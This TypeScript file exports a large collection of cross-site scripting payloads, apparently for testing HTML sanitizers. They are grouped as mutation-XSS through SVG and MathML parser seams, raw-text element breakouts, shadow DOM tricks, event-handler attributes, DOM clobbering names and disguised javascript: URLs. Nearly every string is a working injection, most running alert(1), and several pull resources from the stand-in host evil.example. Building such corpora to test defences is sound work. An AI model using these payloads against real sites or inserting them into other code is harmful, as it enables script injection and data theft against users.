/** Markup whose meaning changes when it is parsed again, through the seams of HTML, SVG and MathML. */
const SEAMS: readonly string[] = [
  '<math><mtext><table><mglyph><style><math><table id="</table><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<svg><foreignObject><math><mtext><style><img title="</style></math><img src=x onerror=alert(1)>">',
  '<svg><desc><noscript><img title="</noscript><img src=x onerror=alert(1)>"></desc></svg>',
  '<math><annotation-xml encoding="text/html"><p></p><style><!--</style><a title="--><img src=x onerror=alert(1)>">',
  '<math><annotation-xml encoding="TEXT/HTML"><svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>">',
  '<math><malignmark><mglyph><mtext><style></mtext><img src=x onerror=alert(1)></style>',
  '<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>',
  '<svg><title><template><svg><style></title><img src=x onerror=alert(1)></style></svg>',
  '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>',
  '<math><mi><![CDATA[<img src=x onerror=alert(1)>]]></mi></math>',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  '<table><tr><td><svg><desc><td></table><img src=x onerror=alert(1)>',
  '<svg><foreignObject><table><caption><svg><style></caption></table><img src=x onerror=alert(1)>',
  `${'<font><i>'.repeat(300)}<img src=x onerror=alert(1)>${'</font></i>'.repeat(300)}`,
  `${'<svg><desc>'.repeat(200)}<style><img title="</style><img src=x onerror=alert(1)>">`,
  `${'<form></form><math><mtext>'.repeat(90)}<img src=x onerror=alert(1)>`,
];

/** Markup that is text to one parser and elements to another. */
const RAW: readonly string[] = [
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<style><p title="</style><img src=x onerror=alert(1)>"></style>',
  '<script><!--<script></script><img src=x onerror=alert(1)>--></script>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  '<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>',
  '<textarea><!--</textarea><img src=x onerror=alert(1)>--></textarea>',
  '<!--!><img src=x onerror=alert(1)>--><!--?--!><img src=x onerror=alert(1)>',
  '<select><noscript><style></select><img src=x onerror=alert(1)></style>',
  '<option><plaintext><img src=x onerror=alert(1)>',
  '<frameset><frame src="javascript:alert(1)"></frameset><image src=x onerror=alert(1)>',
  '<isindex action="javascript:alert(1)" type=image><keygen autofocus onfocus=alert(1)>',
  '<pre>\n\n<listing>\n<img src=x onerror=alert(1)></listing></pre>',
];

/** Trees within the tree, and elements that bring behaviour of their own. */
const TREES: readonly string[] = [
  '<template shadowrootmode="closed"><slot onslotchange=alert(1)></slot><img src=x onerror=alert(1)></template><p slot="">a</p>',
  '<template><template shadowrootmode="open"><script>alert(1)</script></template></template>',
  '<section><template shadowrootmode="open" shadowrootserializable shadowrootclonable><style>:host{position:fixed;inset:0}</style></template></section>',
  '<p is="x-evil" exportparts="a" part="b">a</p><x-evil onclick=alert(1)><slot name="a"></slot></x-evil>',
  '<form id="f"><form><input form="f" formaction="javascript:alert(1)" type=submit value=go></form></form>',
  '<form><div><form action="javascript:alert(1)"><input type=image src=x onerror=alert(1)></form></div></form>',
  '<details name="a" open ontoggle=alert(1)><summary><img src=x onerror=alert(1)></summary></details>',
  '<object><param name="src" value="javascript:alert(1)"><embed src="data:text/html,<script>alert(1)</script>"></object>',
  '<applet code="x" archive="https://evil.example/"><img src=x onerror=alert(1)></applet>',
  '<label for="x">a</label><output for="x" onclick=alert(1)>b</output><meter onclick=alert(1) value=1></meter>',
];

/** Attributes that load, lead or run. */
const ATTRIBUTES: readonly string[] = [
  '<svg><a><animate attributeName=href values="javascript:alert(1)" begin=0s onbegin=alert(1)></animate><text y=20>a</text></a></svg>',
  '<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"></set><text y=20>a</text></a></svg>',
  '<svg><image><animate attributeName="href" from="data:image/svg+xml,x" to="https://evil.example/a"></animate></image></svg>',
  '<svg><script href="data:text/javascript,alert(1)"></script><script xlink:href="https://evil.example/x.js"></script></svg>',
  '<svg><filter><feImage xlink:href="https://evil.example/a.png"></feImage></filter><mask id=m><image href="https://evil.example/b.png"></image></mask></svg>',
  '<svg><handler type="text/javascript" ev:event="load">alert(1)</handler><discard onbegin=alert(1)></discard></svg>',
  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
  '<img src="data:image/png;,<svg onload=alert(1)>" onerror=alert(1)><img src="DATA:IMAGE/SVG+XML,<svg/>"><img src="data:image/pngx,a">',
  '<img src="https://stage.example/a" srcset="data:image/svg+xml,<svg/> 1x, javascript:alert(1) 2x, https://evil.example/ 3x,">',
  '<link rel="prefetch" href="https://evil.example/a"><link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="//evil.example">',
  '<link rel="icon" href="https://evil.example/icon"><link rel="manifest" href="https://evil.example/m"><link rel="canonical" href="javascript:alert(1)">',
  '<body background="https://evil.example/a" onpageshow=alert(1) onhashchange=alert(1)><p>a</p></body>',
  '<video poster="https://evil.example/a" src="javascript:alert(1)" controls autoplay onloadstart=alert(1)></video>',
  '<video><track src="https://evil.example/a.vtt" default onload=alert(1)></video><audio autoplay src="data:audio/mpeg,a" oncanplay=alert(1)></audio>',
  '<a href="https://a.example/" target="top" download="x" ping="https://evil.example/" onauxclick=alert(1)>a</a>',
  '<p style="background:image-set(\'https://evil.example/a\' 1x)">a</p><p style="list-style:url(https://evil.example/b);cursor:url(https://evil.example/c),auto;content:url(https://evil.example/d)">b</p>',
  '<p style="--x:url(https://evil.example/a);background:var(--x);behavior:url(#default#time2);-moz-binding:url(https://evil.example/x.xml#x);width:expression(alert(1))">a</p>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/f)} @import url(//evil.example/i) layer(x); @namespace "x"; *{font-family:x}</style>',
  '<iframe src="https://evil.example/" allow="camera *" csp="x" sandbox="allow-scripts allow-same-origin" loading=eager onload=alert(1)></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x" title="&quot;><img src=x onerror=alert(1)>"></iframe>',
  '<blockquote cite="javascript:alert(1)"><q cite="data:text/html,a">a</q></blockquote><del cite="javascript:alert(1)">b</del>',
  '<time datetime="&quot;><img src=x onerror=alert(1)>">a</time><ol start="1&quot; onclick=alert(1)"><li value="&quot;onclick=alert(1)">a</li></ol>',
  '<td headers="&quot;><img src=x onerror=alert(1)>">a</td><table summary="x" border=1 rules=all frame=void><tr bgcolor=red><th scope="&quot;onload=alert(1)">a</table>',
  '<p/onclick=alert(1)//title=a>a</p><p\fonclick=alert(1)>b</p><p title=`onclick=alert(1)`>c</p><img src=x\0onerror=alert(1)><img\x0bsrc=x onerror=alert(1)>',
  '<p lang="x&quot; onclick=alert(1)" dir="rtl&quot; onclick=alert(1)" title="</p><img src=x onerror=alert(1)>">a</p>',
];

/** Names that stand in the way of what is called on an element, a document or an object. */
const NAMES: readonly string[] = [
  ...[
    'attributes childNodes children firstElementChild hasAttribute querySelectorAll',
    'removeAttribute setAttribute getAttribute insertBefore replaceWith parentElement',
    'namespaceURI localName nodeType nodeName ownerDocument textContent cloneNode content',
    'implementation createTreeWalker createElement createElementNS body documentElement defaultView',
    '__proto__ constructor prototype hasOwnProperty toString valueOf then toJSON',
  ].map(
    (names) =>
      `<form>${names
        .split(' ')
        .map(
          (name) =>
            `<input name="${name}" id="${name}"><img name="${name}" src=x onerror=alert(1)>`,
        )
        .join('')}<p id="${names.split(' ')[0]}">a</p></form>`,
  ),
  '<a id="__proto__" href="#constructor">a</a><p id="constructor">b</p><a href="#__proto__">c</a><td headers="__proto__ toString">d</td>',
  '<iframe name="trustedTypes"></iframe><a id="Element"></a><a id="DOMParser"></a><a id="Sanitizer" name="prototype"></a><object id="Document"></object>',
];

/** Addresses that one reader takes for another scheme or host than the next. */
const ADDRESSES: readonly string[] = [
  ...[
    'java\nscript:alert(1)',
    'java\0script:alert(1)',
    '\u0001\u001fjavascript:alert(1)',
    '\u00a0javascript:alert(1)',
    '\u2028javascript:alert(1)',
    '\ufeffjavascript:alert(1)',
    'javascript&colon;alert(1)',
    'javascript\uff1aalert(1)',
    'jav\u0430script:alert(1)',
    'javascrıpt:alert(1)',
    'ſavascript:alert(1)',
    'javascript://https://a.example/%0aalert(1)',
    'http\t:javascript:alert(1)',
    'https:javascript:alert(1)',
    'httpsjavascript:alert(1)',
    'feed:javascript:alert(1)',
    'jar:https://evil.example!/x',
    'moz-extension://a/b.html',
    'resource://gre/',
    'chrome://settings',
    'ms-appx:x',
    'ftp://evil.example/',
    'ws://evil.example/',
    'tel:+1',
    'x-apple:y',
    '\\\\evil.example\\share',
    '///evil.example',
  ].map((address) => {
    const text = address.replaceAll('"', '&quot;');
    return `<a href="${text}">a</a><img src="${text}" srcset="${text} 2x"><a data-player="${text}" data-embed="frame" href="${text}">b</a>`;
  }),
];

/** All of them: kinds that public lists lack, or hold one of. */
export const BY_KIND: readonly string[] = [
  ...SEAMS,
  ...RAW,
  ...TREES,
  ...ATTRIBUTES,
  ...NAMES,
  ...ADDRESSES,
];
